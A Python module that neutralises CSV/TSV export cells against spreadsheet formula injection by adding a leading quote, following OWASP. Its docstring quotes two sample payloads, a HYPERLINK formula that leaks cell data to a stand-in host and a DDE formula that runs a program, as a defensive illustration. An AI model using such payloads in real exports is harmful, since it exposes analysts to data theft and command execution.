"""Cells a spreadsheet will not run: the one neutraliser of every CSV/TSV export (CSV injection).

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@`` as
a formula, and a leading tab or carriage return does not stop them; some locales fold the
full-width forms (``＝＋－＠``) into the same. A customer's message such as
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` leaks data when an analyst opens the
export, and ``=cmd|' /C calc'!A0`` asks to run a program. Following OWASP, such a cell gets a
leading single quote: spreadsheets show it as text and hide the quote. Plain numbers
(``-12.5``, ``+3``, ``1e-3``) stay as they are, because they only evaluate to themselves.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "neutralise_cell"]

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def neutralise_cell(value: str) -> str:
    """``value`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    if value and value[0] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value
